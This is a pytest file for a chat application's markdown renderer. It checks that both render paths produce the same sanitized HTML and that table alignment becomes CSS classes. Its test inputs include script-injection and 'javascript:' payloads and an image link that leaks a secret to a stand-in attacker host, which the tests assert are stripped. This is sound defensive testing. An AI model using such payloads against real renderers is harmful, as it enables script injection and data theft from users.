"""The answer's HTML is the same whether it renders on the event loop (short answers) or in a
thread (longer ones), and untrusted markup is cleaned on both paths."""

from __future__ import annotations

import pytest

from switchboard.chat.views.render import INLINE_CHARS, render_markdown, rendered


@pytest.mark.parametrize("length", [INLINE_CHARS - 10, INLINE_CHARS, INLINE_CHARS + 1, 5 * INLINE_CHARS])
async def test_both_paths_give_the_same_clean_html(length):
    head = "Hi **there** <script>alert(1)</script> ![x](https://evil.example/leak?q=secret) "
    text = (head + "word " * length)[:length]
    html = await rendered(text)
    assert html == render_markdown(text)
    assert "<strong>there</strong>" in html and "<script" not in html and "<img" not in html


def test_a_columns_alignment_is_a_class_and_no_inline_style_gets_through():
    """The page's CSP applies no inline style (and reports each one it refuses, at a cost), so a
    table column's alignment goes out as one of three classes, and nothing else may set a class
    or a style on a cell."""
    html = render_markdown("| a | b | c | d |\n|:--|--:|:-:|---|\n| 1 | 2 | 3 | 4 |")
    assert '<td class="align-left">1</td>' in html and '<td class="align-right">2</td>' in html
    assert '<th class="align-center">c</th>' in html and "<td>4</td>" in html
    assert "style=" not in html
    # raw HTML is text in markdown; the sanitizer would still drop a class it does not know
    from switchboard.chat.views.render import _cleaner

    cleaned = _cleaner().clean('<table><tr><td class="align-right evil" style="color:red">x</td></tr></table>')
    assert "style" not in cleaned and "evil" not in cleaned


SAMPLES = [
    '# Title\n\nSome **bold**, *em*, `code`, ~~struck~~ and a [link](https://example.com "t").',
    "Setext\n======\n\npara one\nline two  \nhard break\\\nagain",
    "- a\n- b\n  - nested\n\n  loose item\n- c\n\n1. one\n2. two\n\n7) seven",
    "```python\ndef f():\n    return '<b>'\n```\n\n    indented code\n\n~~~\ntilde\n~~~",
    "| a | b | c |\n|:--|--:|:-:|\n| 1 | **2** | `3` |\n| x |",
    "> quote\n> > nested\n\n---\n\n***",
    "<script>alert(1)</script> <b>raw</b> <!-- c --> &amp; &copy; &#35; \\*not em\\*",
    "[ref] and [other][ref] and <https://auto.example> and <me@example.com>\n\n[ref]: https://example.com/r",
    "![img](https://evil.example/leak.png) [js](javascript:alert(1)) [data](data:text/html,x)",
    "Ünïcödé — “quotes” ✓ 🎉\n\n| é | ✓ |\n|---|---|\n| ü | 🎉 |",
]


@pytest.mark.parametrize("text", SAMPLES)
def test_the_fast_renderer_writes_what_markdown_it_py_writes(text):
    """The page's HTML comes from markdown-it's Rust port; the export reads markdown-it-py's tokens.
    Both must see the same markdown: the same HTML after sanitizing."""
    from switchboard.chat.views.render import _cleaner, markdown_parser

    slow = markdown_parser().render(text)
    for side in ("left", "center", "right"):
        slow = slow.replace(f'style="text-align:{side}"', f'class="align-{side}"')
    assert render_markdown(text) == _cleaner().clean(slow)
